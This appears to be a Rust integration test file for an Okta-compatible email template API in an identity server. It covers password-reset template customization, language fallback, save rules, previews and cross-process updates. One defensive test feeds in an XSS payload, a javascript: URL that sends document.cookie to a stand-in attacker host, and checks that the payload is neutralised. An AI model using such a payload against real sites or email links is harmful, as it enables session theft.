//! Okta's email-customization API: the recipe's ForgotPassword template, per-language
//! fallback, Okta's save rules, previews and the test send.
use serde_json::{json, Value};

use crate::both_backends;
use crate::helpers::{extract_code, spawn_app, ADMIN_TOKEN, PASSWORD};

const TEMPLATES: &str = "/api/v1/brands/default/templates/email";
/// The recipe's link (idx-protocol §10), plus the code as text.
const RECIPE_BODY: &str = r#"<html><body><p>Your verification code is ${oneTimePassword}.</p>
<p><a id="reset-password-link" href="https://app.example/magic-link/callback?otp=${oneTimePassword}&state=${request.relayState}">Reset your password</a></p></body></html>"#;

both_backends!(
    the_recipes_custom_forgot_password_template_renders_the_code_and_state_url_encoded,
    customization_rules_follow_okta,
    previews_and_the_test_send_work,
    brands_and_templates_are_listed_in_okta_shapes,
    another_server_process_renders_a_change_without_a_restart,
    a_state_chosen_by_an_attacker_never_becomes_a_javascript_link,
);

async fn customize(app: &crate::helpers::TestApp, template: &str, body: Value) -> reqwest::Response {
    app.admin_post(&format!("{TEMPLATES}/{template}/customizations"), body).await
}

async fn causes(response: reqwest::Response) -> String {
    let body: Value = response.json().await.expect("json");
    body["errorCauses"].to_string()
}

async fn the_recipes_custom_forgot_password_template_renders_the_code_and_state_url_encoded(backend: latchkey_store::testing::Backend) {
    let app = spawn_app(backend).await;
    let response =
        customize(&app, "ForgotPassword", json!({"language": "en", "subject": "Reset your ${org.name} password", "body": RECIPE_BODY}))
            .await;
    assert_eq!(response.status(), 201);
    let created: Value = response.json().await.expect("json");
    assert_eq!(created["isDefault"], true, "the first customization is the default");
    assert!(created["id"].as_str().expect("id").starts_with("oel"));

    app.create_user("recipe@example.com").await;
    let state = "s p&c=1/x";
    app.start_recovery("recipe@example.com", state).await;
    let mail = app.wait_for_mail("recipe@example.com", 1).await.remove(0);
    assert_eq!(mail.subject.as_deref(), Some("Reset your Latchkey password"));
    let text = mail.text.expect("a text part derived from the HTML");
    let code = extract_code(&text).expect("the code as text");
    assert!(text.contains(&format!("Your verification code is {code}.")), "{text}");
    let html = mail.html.expect("html");
    let start = html.find("https://app.example/magic-link/callback?").expect("the app link");
    let href = &html[start..html[start..].find('"').map(|e| start + e).expect("end of href")];
    let url = url::Url::parse(&href.replace("&amp;", "&")).expect("a URL");
    let params: std::collections::HashMap<_, _> = url.query_pairs().into_owned().collect();
    assert_eq!(params.get("otp"), Some(&code));
    assert_eq!(params.get("state").map(String::as_str), Some(state), "the interact state, decoded back exactly");
    assert!(href.contains("%26") && !href.contains("c=1"), "the state is percent-encoded: {href}");
    assert!(text.contains(&format!("(https://app.example/magic-link/callback?otp={code}&state=")), "the text part keeps the link: {text}");

    // French is not customized: a French user gets the French built-in, not the English customization.
    app.create_user_with(json!({"profile": {"login": "fr@example.com", "email": "fr@example.com", "locale": "fr"}, "credentials": {"password": {"value": PASSWORD}}})).await;
    app.start_recovery("fr@example.com", "fr-state").await;
    let mail = app.wait_for_mail("fr@example.com", 1).await.remove(0);
    let html = mail.html.expect("html");
    assert!(html.contains("<html lang=\"fr\""), "French built-in");
    assert!(!html.contains("app.example"), "not the English customization");
    // An unsupported language falls back to the default customization.
    app.create_user_with(json!({"profile": {"login": "pt@example.com", "email": "pt@example.com", "locale": "pt_BR"}, "credentials": {"password": {"value": PASSWORD}}})).await;
    app.start_recovery("pt@example.com", "pt-state").await;
    let mail = app.wait_for_mail("pt@example.com", 1).await.remove(0);
    assert!(mail.html.expect("html").contains("app.example"), "the default customization");
}

async fn customization_rules_follow_okta(backend: latchkey_store::testing::Backend) {
    let app = spawn_app(backend).await;
    let ok = |lang: &str, default: Option<bool>| {
        let mut body = json!({"language": lang, "subject": "Reset", "body": "<p>${oneTimePassword}</p>"});
        if let Some(d) = default {
            body["isDefault"] = json!(d);
        }
        body
    };
    assert_eq!(customize(&app, "ForgotPassword", ok("en", None)).await.status(), 201);
    let response = customize(&app, "ForgotPassword", ok("de", Some(true))).await;
    assert_eq!(response.status(), 409, "a second default");
    let german: Value = customize(&app, "ForgotPassword", ok("de", None)).await.json().await.expect("json");
    assert_eq!(german["isDefault"], false);
    assert_eq!(customize(&app, "ForgotPassword", ok("DE", None)).await.status(), 409, "one customization per language");

    let response =
        customize(&app, "ForgotPassword", json!({"language": "fr", "subject": "s", "body": "<p>Hello ${user.profile.firstName}</p>"}))
            .await;
    assert_eq!(response.status(), 400, "no code or link");
    assert!(causes(response).await.contains("${resetPasswordLink}"));
    let response = customize(
        &app,
        "ForgotPassword",
        json!({"language": "fr", "subject": "s", "body": "<p>${oneTimePassword}</p>\n<p>#if($oneTimePassword)</p>"}),
    )
    .await;
    assert_eq!(response.status(), 400, "does not parse");
    let found = causes(response).await;
    assert!(found.contains("line 2, column"), "the position is reported: {found}");
    let response = customize(
        &app,
        "ForgotPassword",
        json!({"language": "fr", "subject": "s", "body": "<p>${oneTimePassword} ${user.profile.fristName}</p>"}),
    )
    .await;
    assert_eq!(response.status(), 400, "unknown variable");
    assert!(causes(response).await.contains("fristName"));
    let long = "x".repeat(129);
    assert_eq!(
        customize(&app, "ForgotPassword", json!({"language": "fr", "subject": long, "body": "<p>${oneTimePassword}</p>"})).await.status(),
        400
    );
    assert_eq!(
        customize(&app, "ForgotPassword", json!({"language": "fr", "subject": "s", "body": "x".repeat(65 * 1024) + "${oneTimePassword}"}))
            .await
            .status(),
        400
    );
    assert_eq!(
        customize(&app, "ForgotPassword", json!({"language": "not a tag", "subject": "s", "body": "<p>${oneTimePassword}</p>"}))
            .await
            .status(),
        400
    );
    assert_eq!(
        customize(&app, "ForgotPassword", json!({"language": "fr", "subject": "s", "body": "<p>${oneTimePassword}</p>", "extra": 1}))
            .await
            .status(),
        400,
        "strict JSON"
    );
    assert_eq!(customize(&app, "NoSuchTemplate", ok("fr", None)).await.status(), 404);

    // The default cannot be deleted while others exist; it can be moved with PUT.
    let list: Vec<Value> = app.admin_get(&format!("{TEMPLATES}/ForgotPassword/customizations")).await.json().await.expect("json");
    assert_eq!(list.len(), 2);
    let english = list.iter().find(|c| c["language"] == "en").expect("en")["id"].as_str().expect("id").to_owned();
    let german_id = german["id"].as_str().expect("id");
    let url = |id: &str| format!("{}{TEMPLATES}/ForgotPassword/customizations/{id}", app.base);
    let auth = format!("SSWS {ADMIN_TOKEN}");
    assert_eq!(app.http.delete(url(&english)).header("Authorization", &auth).send().await.expect("req").status(), 409);
    let moved = app.http.put(url(german_id)).header("Authorization", &auth).json(&ok("de", Some(true))).send().await.expect("req");
    assert_eq!(moved.status(), 200);
    let english_now: Value =
        app.admin_get(&format!("{TEMPLATES}/ForgotPassword/customizations/{english}")).await.json().await.expect("json");
    assert_eq!(english_now["isDefault"], false, "the previous default was cleared");
    assert_eq!(app.http.delete(url(&english)).header("Authorization", &auth).send().await.expect("req").status(), 204);
    let all = format!("{}{TEMPLATES}/ForgotPassword/customizations", app.base);
    assert_eq!(app.http.delete(all).header("Authorization", &auth).send().await.expect("req").status(), 204);
    let list: Vec<Value> = app.admin_get(&format!("{TEMPLATES}/ForgotPassword/customizations")).await.json().await.expect("json");
    assert!(list.is_empty());
}

async fn previews_and_the_test_send_work(backend: latchkey_store::testing::Backend) {
    let app = spawn_app(backend).await;
    let default: Value =
        app.admin_get(&format!("{TEMPLATES}/ForgotPassword/default-content?language=de")).await.json().await.expect("json");
    assert!(default["body"].as_str().expect("body").contains("${oneTimePassword}"), "the source, not a rendering");
    let preview: Value = app.admin_get(&format!("{TEMPLATES}/ForgotPassword/default-content/preview")).await.json().await.expect("json");
    assert!(preview["body"].as_str().expect("body").contains("123456"), "rendered with sample data");
    assert!(!preview["subject"].as_str().expect("subject").contains("#if"));

    let created: Value =
        customize(&app, "ForgotPassword", json!({"language": "en", "subject": "Hi ${user.profile.firstName}", "body": RECIPE_BODY}))
            .await
            .json()
            .await
            .expect("json");
    let id = created["id"].as_str().expect("id");
    let preview: Value =
        app.admin_get(&format!("{TEMPLATES}/ForgotPassword/customizations/{id}/preview")).await.json().await.expect("json");
    assert_eq!(preview["subject"], "Hi Alex");
    assert!(preview["body"].as_str().expect("body").contains("otp=123456&state=sample-state"), "{preview}");

    let response = app.admin_post(&format!("{TEMPLATES}/ForgotPassword/test?language=en"), json!({})).await;
    assert_eq!(response.status(), 204);
    let mail = app.wait_for_mail("admin@example.com", 1).await.remove(0);
    assert_eq!(mail.subject.as_deref(), Some("Hi Alex"));
    assert!(mail.text.expect("text").contains("Your verification code is 123456."));
}

async fn brands_and_templates_are_listed_in_okta_shapes(backend: latchkey_store::testing::Backend) {
    let app = spawn_app(backend).await;
    let brands: Vec<Value> = app.admin_get("/api/v1/brands").await.json().await.expect("json");
    assert_eq!(brands[0]["id"], "default");
    let templates: Vec<Value> = app.admin_get(TEMPLATES).await.json().await.expect("json");
    let names: Vec<&str> = templates.iter().filter_map(|t| t["name"].as_str()).collect();
    for name in [
        "ForgotPassword",
        "PasswordChanged",
        "AccountLockout",
        "UserActivation",
        "PasswordResetByAdmin",
        "AuthenticatorEnrolled",
        "AuthenticatorReset",
    ] {
        assert!(names.contains(&name), "{names:?}");
    }
    assert!(templates[0]["_links"]["customizations"]["href"].as_str().expect("href").ends_with("/customizations"));
    assert_eq!(app.admin_get("/api/v1/brands/other/templates/email").await.status(), 404);
    assert_eq!(app.http.get(format!("{}/api/v1/brands", app.base)).send().await.expect("req").status(), 401);
}

async fn another_server_process_renders_a_change_without_a_restart(backend: latchkey_store::testing::Backend) {
    let app = spawn_app(backend).await;
    let peer = app.spawn_peer().await;
    // What the peer's outbox worker would send now, from the peer's own cache (never refreshed
    // here: its worker does that every round).
    let peer_subject = || {
        let payload = latchkey_email::EmailPayload::new(latchkey_email::EmailKind::ForgotPassword).with("oneTimePassword", "123456");
        peer.state.renderer.render(&payload, chrono::Utc::now()).expect("render").subject
    };
    assert_eq!(peer_subject(), "Reset your password", "the built-in first");

    let response = customize(&app, "ForgotPassword", json!({"language": "en", "subject": "Changed elsewhere", "body": RECIPE_BODY})).await;
    assert_eq!(response.status(), 201);
    let started = std::time::Instant::now();
    while peer_subject() != "Changed elsewhere" {
        assert!(started.elapsed() < std::time::Duration::from_secs(5), "the peer sees the change within seconds");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    // And a message the peer's worker delivers uses it (either process's worker may send it).
    app.create_user("peer@example.com").await;
    peer.start_recovery("peer@example.com", "peer-state").await;
    let delivered = tokio::time::timeout(std::time::Duration::from_secs(15), async {
        loop {
            if let Some(m) = app.sink.messages_to("peer@example.com").into_iter().chain(peer.sink.messages_to("peer@example.com")).next() {
                return m;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
    })
    .await
    .expect("delivered by one of the two workers");
    assert_eq!(delivered.subject.as_deref(), Some("Changed elsewhere"));
}

/// `state` is the relying party's, so anyone can choose it (VSCHAR, up to 512 chars). A custom
/// template that uses it as a whole link gets `#` instead of a `javascript:` URL; the recipe's
/// link, whose scheme the template fixes, still carries it percent-encoded (security-checklist
/// LNK-1, EML-2).
async fn a_state_chosen_by_an_attacker_never_becomes_a_javascript_link(backend: latchkey_store::testing::Backend) {
    let app = spawn_app(backend).await;
    let body = r#"<html><body><p>Code ${oneTimePassword}.</p>
<p><a id="back" href="${request.relayState}">Back to the app</a></p>
<p><a id="reset" href="https://app.example/magic-link/callback?otp=${oneTimePassword}&state=${request.relayState}">Reset</a></p></body></html>"#;
    let response = customize(&app, "ForgotPassword", json!({"language": "en", "subject": "Reset", "body": body})).await;
    assert_eq!(response.status(), 201);

    app.create_user("relay@example.com").await;
    let hostile = "JavaScript:fetch('//evil.test/'+document.cookie)";
    app.start_recovery("relay@example.com", hostile).await;
    let mail = app.wait_for_mail("relay@example.com", 1).await.remove(0);
    let text = mail.text.expect("a text part derived from the HTML");
    assert!(!text.to_ascii_lowercase().contains("javascript:"), "nor in the text part: {text}");
    let html = mail.html.expect("html");
    assert!(html.contains(r##"<a id="back" href="#">Back to the app</a>"##), "{html}");
    assert!(!html.to_ascii_lowercase().contains("javascript:"), "no javascript: URL anywhere: {html}");
    let start = html.find("https://app.example/magic-link/callback?").expect("the recipe link");
    let href = &html[start..html[start..].find('"').map(|e| start + e).expect("end of href")];
    let url = url::Url::parse(&href.replace("&amp;", "&")).expect("a URL");
    let state = url.query_pairs().find(|(k, _)| k == "state").map(|(_, v)| v.into_owned());
    assert_eq!(state.as_deref(), Some(hostile), "the state itself still reaches the app, as data");
}
